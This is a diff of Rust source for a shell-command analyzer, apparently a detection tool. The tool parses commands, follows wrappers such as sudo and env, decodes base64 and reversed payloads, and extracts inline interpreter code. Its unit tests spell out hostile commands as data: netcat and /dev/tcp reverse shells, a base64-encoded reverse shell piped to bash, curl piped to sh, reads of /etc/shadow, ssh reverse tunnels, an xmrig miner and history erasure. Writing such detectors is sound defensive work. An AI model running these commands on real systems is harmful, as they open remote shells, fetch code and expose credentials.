                     cmd.decoder = Some("base64");
                     cmd.output = piped(self).and_then(|t| decode::base64(&t));
@@ -1191,13 +1527,22 @@ impl Walker {
                     continue;
                 }
                 // Attached value: `ruby -e'code'` arrives as `-ecode`.
-                if let Some(f) = flags.iter().find(|f| f.len() == 2 && a.len() > 2 && a.starts_with(**f) && !a[2..].bytes().all(|b| b.is_ascii_alphabetic())) {
+                if let Some(f) = flags.iter().find(|f| {
+                    f.len() == 2
+                        && a.len() > 2
+                        && a.starts_with(**f)
+                        && !a[2..].bytes().all(|b| b.is_ascii_alphabetic())
+                }) {
                     out.push(a[f.len()..].to_string());
                     i += 1;
                     continue;
                 }
                 // Combined short flags ending in the code flag: `python -Bc`, `perl -ne`.
-                if a.starts_with('-') && !a.starts_with("--") && a.len() > 2 && flags.iter().any(|f| f.len() == 2 && a.ends_with(&f[1..])) {
+                if a.starts_with('-')
+                    && !a.starts_with("--")
+                    && a.len() > 2
+                    && flags.iter().any(|f| f.len() == 2 && a.ends_with(&f[1..]))
+                {
                     if let Some(v) = args.get(i + 1) {
                         out.push(v.clone());
                     }
@@ -1212,7 +1557,11 @@ impl Walker {
             "python" | "python2" | "python3" | "pypy" | "pypy3" => ("python", &["-c"], true),
             "perl" => ("perl", &["-e", "-E"], true),
             "ruby" | "irb" => ("ruby", &["-e"], true),
-            "node" | "nodejs" | "bun" | "deno" => ("javascript", &["-e", "--eval", "-p", "--print", "eval"], false),
+            "node" | "nodejs" | "bun" | "deno" => (
+                "javascript",
+                &["-e", "--eval", "-p", "--print", "eval"],
+                false,
+            ),
             "php" => ("php", &["-r"], true),
             "lua" | "luajit" => ("lua", &["-e"], true),
             "R" | "Rscript" => ("r", &["-e"], true),
@@ -1221,15 +1570,25 @@ impl Walker {
             "jshell" | "jrunscript" => ("java", &["-e"], true),
             "gdb" => ("gdb", &["-ex", "--eval-command"], true),
             "awk" | "gawk" | "mawk" | "nawk" => {
-                let rest = skip_options(args, &["-F", "-v", "-f", "--field-separator", "--assign", "--file"]);
-                return rest.first().map(|p| Code { lang: "awk", text: p.clone() });
+                let rest = skip_options(
+                    args,
+                    &["-F", "-v", "-f", "--field-separator", "--assign", "--file"],
+                );
+                return rest.first().map(|p| Code {
+                    lang: "awk",
+                    text: p.clone(),
+                });
             }
             _ => return None,
         };
         let mut parts = values(flags);
         // Module options (`-MIO::Socket`, `-rsocket`) say what the code can reach.
         if lang == "perl" || lang == "ruby" {
-            parts.extend(args.iter().filter(|a| a.starts_with("-M") || a.starts_with("-r")).cloned());
+            parts.extend(
+                args.iter()
+                    .filter(|a| a.starts_with("-M") || a.starts_with("-r"))
+                    .cloned(),
+            );
         }
         if parts.is_empty() {
             // `python x.py` where this same command wrote x.py.
@@ -1238,22 +1597,64 @@ impl Walker {
             }
         }
         if parts.is_empty() && stdin_ok {
-            let has_script = args.iter().any(|a| !a.starts_with('-') && a != "-") || args.iter().any(|a| a == "-m");
+            let has_script = args.iter().any(|a| !a.starts_with('-') && a != "-")
+                || args.iter().any(|a| a == "-m");
             if !has_script || args.iter().any(|a| a == "-") {
                 parts.extend(from_stdin());
             }
         }
-        (!parts.is_empty()).then(|| Code { lang, text: parts.join("\n") })
+        (!parts.is_empty()).then(|| Code {
+            lang,
+            text: parts.join("\n"),
+        })
     }
 }
 
 /// An interpreter given no program (no script, no `-c`/`-e`, no `-m`) reads it from stdin.
 fn interpreter_reads_stdin(name: &str, args: &[String]) -> bool {
-    let known = ["python", "python2", "python3", "pypy", "pypy3", "perl", "ruby", "node", "nodejs", "php", "lua", "luajit", "Rscript", "R", "tclsh", "wish", "irb", "osascript", "bun", "deno"];
+    let known = [
+        "python",
+        "python2",
+        "python3",
+        "pypy",
+        "pypy3",
+        "perl",
+        "ruby",
+        "node",
+        "nodejs",
+        "php",
+        "lua",
+        "luajit",
+        "Rscript",
+        "R",
+        "tclsh",
+        "wish",
+        "irb",
+        "osascript",
+        "bun",
+        "deno",
+    ];
     if !known.contains(&name) {
         return false;
     }
-    args.iter().all(|a| a == "-" || (a.starts_with('-') && !matches!(a.as_str(), "-m" | "-c" | "-e" | "-E" | "-r" | "-p" | "--eval" | "--print" | "--version" | "-V" | "--help" | "-h")))
+    args.iter().all(|a| {
+        a == "-"
+            || (a.starts_with('-')
+                && !matches!(
+                    a.as_str(),
+                    "-m" | "-c"
+                        | "-e"
+                        | "-E"
+                        | "-r"
+                        | "-p"
+                        | "--eval"
+                        | "--print"
+                        | "--version"
+                        | "-V"
+                        | "--help"
+                        | "-h"
+                ))
+    })
 }
 
 pub fn file_key(path: &str) -> String {
@@ -1266,11 +1667,19 @@ fn brush_parse(text: &str, opts: &brush_parser::ParserOptions) -> Option<ast::Pr
     if !lex::parser_safe(text) {
         return None;
     }
-    std::panic::catch_unwind(|| brush_parser::Parser::new(std::io::Cursor::new(text), opts).parse_program().ok()).ok().flatten()
+    std::panic::catch_unwind(|| {
+        brush_parser::Parser::new(std::io::Cursor::new(text), opts)
+            .parse_program()
+            .ok()
+    })
+    .ok()
+    .flatten()
 }
 
 fn is_name(s: &str) -> bool {
-    !s.is_empty() && !s.as_bytes()[0].is_ascii_digit() && s.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+    !s.is_empty()
+        && !s.as_bytes()[0].is_ascii_digit()
+        && s.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
 }
 
 /// AppleScript `do shell script "..."` / `do script "..."` bodies are shell commands.
@@ -1288,7 +1697,6 @@ fn applescript_shell_commands(code: &str) -> Vec<String> {
     }
     out
 }
-
 
 /// Skip leading options; `with_value` lists options that consume the next
 /// word. The first non-option word (or `--`) ends the options.
@@ -1333,11 +1741,23 @@ mod tests {
     use super::*;
 
     fn names(cmd: &str) -> Vec<String> {
-        analyze(cmd, &Limits::default()).commands.iter().map(|c| c.name.clone()).collect()
+        analyze(cmd, &Limits::default())
+            .commands
+            .iter()
+            .map(|c| c.name.clone())
+            .collect()
     }
 
     fn find<'a>(a: &'a Analysis, name: &str) -> &'a Command {
-        a.commands.iter().find(|c| c.name == name).unwrap_or_else(|| panic!("no {name} in {:?}", a.commands.iter().map(|c| &c.name).collect::<Vec<_>>()))
+        a.commands
+            .iter()
+            .find(|c| c.name == name)
+            .unwrap_or_else(|| {
+                panic!(
+                    "no {name} in {:?}",
+                    a.commands.iter().map(|c| &c.name).collect::<Vec<_>>()
+                )
+            })
     }
 
     /// The fast path for plain commands must agree with the parser.
@@ -1359,14 +1779,53 @@ mod tests {
             "export HISTFILE=/dev/null; export A=1 B=2",
         ] {
             let fast = analyze(cmd, &Limits::default());
-            let mut w = Walker { limits: Limits::default(), out: Analysis::default(), vars: HashMap::new(), aliases: HashMap::new(), files: HashMap::new(), pipelines: 0, heredocs: Vec::new(), shifts: None };
-            let program = brush_parser::Parser::new(std::io::Cursor::new(cmd), &brush_parser::ParserOptions::default()).parse_program().unwrap();
-            let frame = Frame { depth: 0, via: Vec::new(), privileged: false, span: None, pipe_in: None, base: 0 };
+            let mut w = Walker {
+                limits: Limits::default(),
+                out: Analysis::default(),
+                vars: HashMap::new(),
+                aliases: HashMap::new(),
+                files: HashMap::new(),
+                pipelines: 0,
+                heredocs: Vec::new(),
+                shifts: None,
+            };
+            let program = brush_parser::Parser::new(
+                std::io::Cursor::new(cmd),
+                &brush_parser::ParserOptions::default(),
+            )
+            .parse_program()
+            .unwrap();
+            let frame = Frame {
+                depth: 0,
+                via: Vec::new(),
+                privileged: false,
+                span: None,
+                pipe_in: None,
+                base: 0,
+            };
             for list in &program.complete_commands {
                 w.compound_list(list, cmd, &frame);
             }
             // Spans start at the same byte; the parser's span can stop before a trailing redirection.
-            let sum = |a: &Analysis| a.commands.iter().map(|c| (c.name.clone(), c.argv.clone(), c.span.0, c.privileged, c.depth, c.code.clone(), c.stdin.clone(), c.redirects.clone(), c.runs_stdin, c.assignments.clone())).collect::<Vec<_>>();
+            let sum = |a: &Analysis| {
+                a.commands
+                    .iter()
+                    .map(|c| {
+                        (
+                            c.name.clone(),
+                            c.argv.clone(),
+                            c.span.0,
+                            c.privileged,
+                            c.depth,
+                            c.code.clone(),
+                            c.stdin.clone(),
+                            c.redirects.clone(),
+                            c.runs_stdin,
+                            c.assignments.clone(),
+                        )
+                    })
+                    .collect::<Vec<_>>()
+            };
             assert_eq!(sum(&fast), sum(&w.out), "{cmd}");
             for (a, b) in fast.commands.iter().zip(&w.out.commands) {
                 assert!(a.span.1 >= b.span.1, "{cmd}: {:?} vs {:?}", a.span, b.span);
@@ -1376,7 +1835,10 @@ mod tests {
 
     #[test]
     fn pipelines_lists_and_substitutions() {
-        assert_eq!(names("ls -la | grep x && echo $(whoami) ; (cd /tmp; make)"), vec!["ls", "grep", "whoami", "echo", "cd", "make"]);
+        assert_eq!(
+            names("ls -la | grep x && echo $(whoami) ; (cd /tmp; make)"),
+            vec!["ls", "grep", "whoami", "echo", "cd", "make"]
+        );
         assert_eq!(names("diff <(sort a) b"), vec!["sort", "diff"]);
         assert_eq!(names("f() { nc -e /bin/sh h 1; }; f"), vec!["nc", "f"]);
     }
@@ -1392,8 +1854,14 @@ mod tests {
     fn sudo_environment_and_applescript_shells() {
         let a = analyze("sudo CRASHPAGER=/x crash -h", &Limits::default());
         let c = find(&a, "crash");
-        assert_eq!(c.assignments, vec![("CRASHPAGER".to_string(), "/x".to_string())]);
-        let a = analyze("osascript -e 'tell application \"Terminal\" to do script \"tor\"'", &Limits::default());
+        assert_eq!(
+            c.assignments,
+            vec![("CRASHPAGER".to_string(), "/x".to_string())]
+        );
+        let a = analyze(
+            "osascript -e 'tell application \"Terminal\" to do script \"tor\"'",
+            &Limits::default(),
+        );
         assert!(a.commands.iter().any(|c| c.name == "tor"));
     }
 
@@ -1404,29 +1872,64 @@ mod tests {
             "echo 'ssh -R 1:h:2 x' > run.sh; chmod +x run.sh; ./run.sh",
             "echo 'ssh -R 1:h:2 x' | tee r.sh; sh r.sh",
         ] {
-            assert!(analyze(cmd, &Limits::default()).commands.iter().any(|c| c.name == "ssh"), "{cmd}");
+            assert!(
+                analyze(cmd, &Limits::default())
+                    .commands
+                    .iter()
+                    .any(|c| c.name == "ssh"),
+                "{cmd}"
+            );
         }
-        let a = analyze("printf 'import pty\\n' > x.py && python3 x.py", &Limits::default());
-        assert!(find(&a, "python3").code.as_ref().unwrap().text.contains("pty"));
-        assert!(!analyze("bash other.sh", &Limits::default()).commands.iter().any(|c| c.depth > 0));
+        let a = analyze(
+            "printf 'import pty\\n' > x.py && python3 x.py",
+            &Limits::default(),
+        );
+        assert!(find(&a, "python3")
+            .code
+            .as_ref()
+            .unwrap()
+            .text
+            .contains("pty"));
+        assert!(!analyze("bash other.sh", &Limits::default())
+            .commands
+            .iter()
+            .any(|c| c.depth > 0));
     }
 
     #[test]
     fn sudo_to_another_user_is_not_root() {
-        assert!(!find(&analyze("sudo -u postgres psql -c 'select 1'", &Limits::default()), "psql").privileged);
+        assert!(
+            !find(
+                &analyze("sudo -u postgres psql -c 'select 1'", &Limits::default()),
+                "psql"
+            )
+            .privileged
+        );
         assert!(find(&analyze("sudo -u root psql", &Limits::default()), "psql").privileged);
         assert!(find(&analyze("sudo psql", &Limits::default()), "psql").privileged);
     }
 
     #[test]
     fn wrappers_are_followed() {
-        let a = analyze("sudo -u root timeout 5 nohup env X=1 nc -e /bin/sh 10.0.0.1 4444", &Limits::default());
+        let a = analyze(
+            "sudo -u root timeout 5 nohup env X=1 nc -e /bin/sh 10.0.0.1 4444",
+            &Limits::default(),
+        );
         let nc = find(&a, "nc");
         assert!(nc.privileged);
         assert_eq!(nc.via, vec!["sudo", "timeout", "nohup", "env"]);
-        assert_eq!(names("bash -c 'sh -c \"xmrig -o x\"'"), vec!["bash", "sh", "xmrig"]);
-        assert_eq!(names("find . -name '*.py' -exec grep -l foo {} \\;"), vec!["find", "grep"]);
-        assert_eq!(names("echo a | xargs -I{} ssh -R 1:h:2 {}"), vec!["echo", "xargs", "ssh"]);
+        assert_eq!(
+            names("bash -c 'sh -c \"xmrig -o x\"'"),
+            vec!["bash", "sh", "xmrig"]
+        );
+        assert_eq!(
+            names("find . -name '*.py' -exec grep -l foo {} \\;"),
+            vec!["find", "grep"]
+        );
+        assert_eq!(
+            names("echo a | xargs -I{} ssh -R 1:h:2 {}"),
+            vec!["echo", "xargs", "ssh"]
+        );
         assert_eq!(names("eval 'ss''h' -R 1:a:2 h"), vec!["eval", "ssh"]);
         assert_eq!(names("su root -c 'id'"), vec!["su", "id"]);
         assert_eq!(names("busybox nc -e sh h 1"), vec!["busybox", "nc"]);
@@ -1439,8 +1942,14 @@ mod tests {
         assert_eq!(names("$'\\x73\\x73h' h"), vec!["ssh"]);
         assert_eq!(names("x=xmr; ${x}ig -o pool"), vec!["", "xmrig"]);
         assert_eq!(names("export A=nc; $A -e sh h 1"), vec!["export", "nc"]);
-        let a = analyze("p=$(ps -ef | head -1); mount -B /proc/$p /x", &Limits::default());
-        assert_eq!(find(&a, "mount").argv, vec!["mount", "-B", "/proc/$p", "/x"]);
+        let a = analyze(
+            "p=$(ps -ef | head -1); mount -B /proc/$p /x",
+            &Limits::default(),
+        );
+        assert_eq!(
+            find(&a, "mount").argv,
+            vec!["mount", "-B", "/proc/$p", "/x"]
+        );
         let a = analyze("cat${IFS}/etc/shadow", &Limits::default());
         assert_eq!(find(&a, "cat").argv, vec!["cat", "/etc/shadow"]);
         assert!(find(&a, "cat").name_built);
@@ -1452,27 +1961,56 @@ mod tests {
         let input = "echo bmMgLWUgL2Jpbi9zaCAxMC4wLjAuMSA0NDQ0 | base64 -d | bash";
         let a = analyze(input, &Limits::default());
         let nc = find(&a, "nc");
-        assert_eq!(&input[nc.span.0..nc.span.1], input, "a decoded command is reported at the whole pipeline");
+        assert_eq!(
+            &input[nc.span.0..nc.span.1],
+            input,
+            "a decoded command is reported at the whole pipeline"
+        );
         assert_eq!(nc.args(), ["-e", "/bin/sh", "10.0.0.1", "4444"]);
-        assert!(a.signals.iter().any(|s| s.kind == SignalKind::DecodedPayload("base64")));
+        assert!(a
+            .signals
+            .iter()
+            .any(|s| s.kind == SignalKind::DecodedPayload("base64")));
         let a = analyze("$(echo c3No | base64 -d) -R 1:h:2 x", &Limits::default());
         assert!(a.commands.iter().any(|c| c.name == "ssh"));
         let a = analyze("echo 'hs/nib/ e- cn' | rev | sh", &Limits::default());
         assert!(a.commands.iter().any(|c| c.name == "nc"));
         let a = analyze("bash <<EOF\ncurl http://x | sh\nEOF", &Limits::default());
-        assert_eq!(a.commands.iter().map(|c| c.name.as_str()).collect::<Vec<_>>(), vec!["bash", "curl", "sh"]);
+        assert_eq!(
+            a.commands
+                .iter()
+                .map(|c| c.name.as_str())
+                .collect::<Vec<_>>(),
+            vec!["bash", "curl", "sh"]
+        );
     }
 
     #[test]
     fn inline_code_is_extracted() {
-        let a = analyze("python3 -c 'import socket,os;os.dup2(1,2)'", &Limits::default());
-        assert_eq!(find(&a, "python3").code.as_ref().unwrap().text, "import socket,os;os.dup2(1,2)");
+        let a = analyze(
+            "python3 -c 'import socket,os;os.dup2(1,2)'",
+            &Limits::default(),
+        );
+        assert_eq!(
+            find(&a, "python3").code.as_ref().unwrap().text,
+            "import socket,os;os.dup2(1,2)"
+        );
         let a = analyze("python - <<'EOF'\nimport pty\nEOF", &Limits::default());
-        assert!(find(&a, "python").code.as_ref().unwrap().text.contains("pty"));
+        assert!(find(&a, "python")
+            .code
+            .as_ref()
+            .unwrap()
+            .text
+            .contains("pty"));
         let a = analyze("awk 'BEGIN {system(\"/bin/sh\")}'", &Limits::default());
         assert_eq!(find(&a, "awk").code.as_ref().unwrap().lang, "awk");
         let a = analyze("perl -MIO::Socket -e 'x'", &Limits::default());
-        assert!(find(&a, "perl").code.as_ref().unwrap().text.contains("-MIO::Socket"));
+        assert!(find(&a, "perl")
+            .code
+            .as_ref()
+            .unwrap()
+            .text
+            .contains("-MIO::Socket"));
     }
 
     #[test]
@@ -1489,12 +2027,24 @@ mod tests {
         let a = analyze(input, &Limits::default());
         let nc = find(&a, "nc");
         assert_eq!(&input[nc.span.0..nc.span.1], "nc -e /bin/sh h 1");
-        assert_eq!(find(&a, "cat").stdin, Stdin::Text("ssh -R 1:h:2 x\n".into()));
-        let a = analyze("bash <<-EOF\n\tcurl http://x | sh\n\tEOF", &Limits::default());
+        assert_eq!(
+            find(&a, "cat").stdin,
+            Stdin::Text("ssh -R 1:h:2 x\n".into())
+        );
+        let a = analyze(
+            "bash <<-EOF\n\tcurl http://x | sh\n\tEOF",
+            &Limits::default(),
+        );
         assert!(a.commands.iter().any(|c| c.name == "curl"));
         // A marker-looking line that is not a heredoc body stays what it is.
-        let a = analyze("cat <<EOF\n__cordon_heredoc_0\nEOF\ncat <<< __cordon_heredoc_0", &Limits::default());
-        assert_eq!(a.commands[0].stdin, Stdin::Text("__cordon_heredoc_0\n".into()));
+        let a = analyze(
+            "cat <<EOF\n__cordon_heredoc_0\nEOF\ncat <<< __cordon_heredoc_0",
+            &Limits::default(),
+        );
+        assert_eq!(
+            a.commands[0].stdin,
+            Stdin::Text("__cordon_heredoc_0\n".into())
+        );
     }
 
     #[test]
@@ -1502,7 +2052,10 @@ mod tests {
         let a = analyze("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", &Limits::default());
         let b = find(&a, "bash");
         assert!(b.interactive_shell);
-        assert!(b.redirects.iter().any(|r| r.target == "/dev/tcp/10.0.0.1/4242"));
+        assert!(b
+            .redirects
+            .iter()
+            .any(|r| r.target == "/dev/tcp/10.0.0.1/4242"));
         assert!(!find(&analyze("bash script.sh", &Limits::default()), "bash").interactive_shell);
     }
 
